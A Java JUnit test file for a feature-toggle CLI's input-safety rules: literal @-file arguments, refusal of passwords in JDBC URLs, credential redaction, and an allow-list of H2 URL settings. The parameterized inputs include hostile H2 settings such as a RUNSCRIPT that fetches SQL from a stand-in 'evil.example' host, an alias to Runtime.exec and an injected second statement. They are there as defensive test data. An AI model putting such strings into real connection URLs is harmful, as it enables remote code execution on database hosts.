package io.toggles.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.toggles.StoreException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What the CLI takes in: arguments literally (no @-files), no password inside a JDBC URL, every
 * credential form redacted in messages, and only H2 settings known to be safe.
 */
class InputSafetyTest {
  @TempDir Path home;

  @AfterEach
  void forgetTheSpy() {
    System.clearProperty(LoadedSpy.MARK);
  }

  private static String h2() {
    return "jdbc:h2:mem:in" + UUID.randomUUID().toString().replace("-", "") + ";DB_CLOSE_DELAY=-1";
  }

  private CliRunner.Result ok(CliRunner cli, String command, String... args) {
    CliRunner.Result r = cli.run(command, args);
    assertThat(r.code()).as(r.toString()).isZero();
    return r;
  }

  // ------------------------------------------------------------------ @-files

  @Test
  void anAtFileArgumentIsTakenLiterallyAndCannotInjectYes() throws Exception {
    CliRunner cli = new CliRunner(home).always("--url", h2());
    ok(cli, "init");
    Path owner = Files.writeString(home.resolve("team-pay"), "team-pay\n--description\nforged\n");
    ok(cli, "define", "a.b", "--type", "boolean", "--owner", "@" + owner, "--reason", "r");
    ok(cli, "enable", "a.b", "--product", "p", "--reason", "r");
    assertThat(
            AbstractCliTest.json(ok(cli, "features", "--json").out()).get(0).get("owner").asText())
        .isEqualTo("@" + owner);
    assertThat(ok(cli, "features").out()).doesNotContain("forged");

    Path yes = Files.writeString(home.resolve("bob"), "bob\n--yes\n");
    CliRunner.Result kill = cli.run("kill", "a.b", "--reason", "r", "--actor", "@" + yes);
    assertThat(kill.code()).as(kill.toString()).isEqualTo(2);
    assertThat(kill.err()).contains("add --yes to confirm");
    assertThat(
            AbstractCliTest.json(ok(cli, "list", "a.b", "--json").out()).get("killed").asBoolean())
        .isFalse();

    Path args = Files.writeString(home.resolve("args"), "a.b\n--reason\nr\n--yes\n");
    CliRunner.Result whole = cli.run("kill", "@" + args);
    assertThat(whole.code()).as(whole.toString()).isEqualTo(2);
    assertThat(whole.err()).contains("feature key '@" + args + "' is malformed");
  }

  // ------------------------------------------------------------------ passwords in URLs

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db:5432/app?password=s3cret",
        "jdbc:postgresql://db:5432/app?user=u&password=s3cret&ssl=true",
        "jdbc:postgresql://db:5432/app?user=u&PassWord = s3cret",
        "jdbc:postgresql://db:5432/app?user=u&pass%77ord=s3cret",
        "jdbc:postgresql://u:s3cret@db:5432/app",
        "jdbc:mariadb://root:s3cret@db/x",
        "jdbc:mariadb://root:se/cr@et@db/x?ssl=true",
        "jdbc:mysql://u:s3cret@db:3306/x",
        "jdbc:mysql://address=(host=db)(port=3306)(user=u)(password=s3cret)/x",
        "jdbc:mariadb://db/x?user=u&password1=s3cret",
        "jdbc:h2:mem:x;PASSWORD=s3cret",
        "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;password = s3cret",
        "jdbc:h2:tcp://u:s3cret@db/~/x",
      })
  void aPasswordInTheUrlIsRefusedSayingWherePasswordsGo(String url) {
    CliRunner.Result r = new CliRunner(home).run("status", "--url", url);
    assertThat(r.code()).as(r.toString()).isEqualTo(2);
    assertThat(r.err())
        .contains("refusing a password inside the JDBC URL")
        .contains("TOGGLES_DB_PASSWORD, 'password' in the config file, --password-stdin")
        .doesNotContain("s3cret", "se/cr");
    assertThat(r.out()).isEmpty();
  }

  @Test
  void aPasswordInTheUrlIsRefusedFromTheEnvironmentAndTheConfigFileToo() throws Exception {
    CliRunner env = new CliRunner(home);
    env.env.put("TOGGLES_JDBC_URL", "jdbc:postgresql://u:s3cret@db/x");
    CliRunner.Result fromEnv = env.run("features");
    assertThat(fromEnv.code()).isEqualTo(2);
    assertThat(fromEnv.err()).contains("refusing a password").doesNotContain("s3cret");
    Path config =
        Files.writeString(home.resolve("c.properties"), "url=jdbc:h2:mem:x;PASSWORD=s3cret\n");
    CliRunner.Result fromFile = new CliRunner(home).run("features", "--config", config.toString());
    assertThat(fromFile.code()).isEqualTo(2);
    assertThat(fromFile.err()).contains("refusing a password").doesNotContain("s3cret");
  }

  @Test
  void anotherSecretIsRefusedOnTheCommandLineOnlyAndRedactedWherePrinted() {
    String url = "jdbc:postgresql://127.0.0.1:1/x?sslpassword=s3cret&sslmode=disable";
    assertThat(UrlPolicy.problem(url, true))
        .get()
        .asString()
        .contains("refusing a secret in --url");
    assertThat(UrlPolicy.problem(url, false)).isEmpty();
    CliRunner cli = new CliRunner(home);
    CliRunner.Result onCommandLine = cli.run("status", "--url", url);
    assertThat(onCommandLine.code()).as(onCommandLine.toString()).isEqualTo(2);
    assertThat(onCommandLine.err())
        .contains("refusing a secret in --url", "TOGGLES_JDBC_URL")
        .doesNotContain("s3cret");
    cli.env.put("TOGGLES_JDBC_URL", url);
    CliRunner.Result status = cli.run("status");
    assertThat(status.code()).as(status.toString()).isEqualTo(1);
    assertThat(status.out())
        .contains("database:   jdbc:postgresql://127.0.0.1:1/x?sslpassword=***&");
    assertThat(status.out() + status.err()).doesNotContain("s3cret");
  }

  @Test
  void everyCredentialFormIsRedactedInMessages() {
    List<String> leaks =
        List.of(
            "jdbc:postgresql://db/x?user=u&password=s3cret&ssl=true",
            "connecting to jdbc:h2:mem:x;PASSWORD=s3cret;MODE=PostgreSQL failed",
            "jdbc:mariadb://root:s3cret@db/x",
            "jdbc:mariadb://root:se/cret@db/x",
            "(total=0, active=0, idle=0, waiting=0): u:s3cret@127.0.0.1",
            "address=(host=db)(user=u)(password=s3cret)",
            "keyStorePassword=s3cret&trustStorePassword=s3cret",
            "pwd = s3cret");
    for (String text : leaks) {
      assertThat(UrlPolicy.redact(text)).as(text).doesNotContain("s3cret", "cret");
    }
    assertThat(UrlPolicy.redact("jdbc:postgresql://db/x?user=u&password=s3cret&ssl=true"))
        .isEqualTo("jdbc:postgresql://db/x?user=u&password=***&ssl=true");
    assertThat(UrlPolicy.redact("jdbc:mariadb://u:s3cret@db/x"))
        .isEqualTo("jdbc:mariadb://u:***@db/x");
    assertThat(UrlPolicy.redact("for user 'root'@'localhost' (using password: YES)"))
        .isEqualTo("for user 'root'@'localhost' (using password: YES)");
    String message =
        ErrorHandler.message(
            new StoreException(
                "database unreachable",
                new SQLException("Connection refused: u:s3cret@127.0.0.1:5432 (password=s3cret)")));
    assertThat(message).contains("u:***@127.0.0.1").doesNotContain("s3cret");
  }

  // ------------------------------------------------------------------ H2 settings

  @ParameterizedTest
  @ValueSource(
      strings = {
        "DATABASE_EVENT_LISTENER=io.toggles.cli.LoadedSpy",
        "DEFAULT_TABLE_ENGINE=io.toggles.cli.LoadedSpy",
        "JAVA_OBJECT_SERIALIZER=io.toggles.cli.LoadedSpy",
        "AUTHENTICATOR=io.toggles.cli.LoadedSpy",
        "INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "init = create alias x for 'java.lang.Runtime.exec'",
        "RUNSCRIPT FROM 'x'",
        "IGNORE_UNKNOWN_SETTINGS=TRUE",
        "CREATE_TRIGGER_X=1",
        "SOME_FUTURE_SETTING=1",
        "MODE=PostgreSQL'",
        "SCHEMA=PUBLIC\\;RUNSCRIPT FROM 'x'",
        "SCHEMA=PUBLIC SET",
        "TRACE_LEVEL_FILE",
      })
  void anH2SettingNotKnownToBeSafeIsRefusedBeforeH2SeesIt(String setting) {
    CliRunner cli = new CliRunner(home);
    CliRunner.Result r = cli.run("init", "--url", h2() + ";" + setting);
    assertThat(r.code()).as(r.toString()).isEqualTo(2);
    assertThat(r.err()).contains("refusing H2 URL setting");
    assertThat(System.getProperty(LoadedSpy.MARK)).as("H2 loaded the class").isNull();
  }

  @Test
  void theSettingsKnownToBeSafeAreAccepted() {
    CliRunner cli =
        new CliRunner(home)
            .always(
                "--url",
                h2()
                    + ";MODE=PostgreSQL;DATABASE_TO_UPPER=TRUE;NON_KEYWORDS=VALUE,KEY"
                    + ";LOCK_TIMEOUT=10000;TRACE_LEVEL_FILE=0;;");
    assertThat(ok(cli, "init").out()).contains("(created)");
    assertThat(UrlPolicy.problem("jdbc:h2:file:/srv/toggles;AUTO_SERVER=TRUE", true)).isEmpty();
    assertThat(UrlPolicy.problem("jdbc:h2:/srv/aliases/trigger-db", true)).isEmpty();
  }

  /** Shows that the spy works: without the policy, H2 does load the class the URL names. */
  @Test
  void withoutThePolicyH2WouldLoadTheNamedClass() throws Exception {
    try (var c =
        java.sql.DriverManager.getConnection(
            h2() + ";DATABASE_EVENT_LISTENER=io.toggles.cli.LoadedSpy")) {
      assertThat(c.isValid(1)).isTrue();
    } catch (SQLException expected) {
      // H2 may refuse the spy (it is no event listener) after loading it: the mark says which
    }
    assertThat(System.getProperty(LoadedSpy.MARK)).isEqualTo("loaded");
  }
}
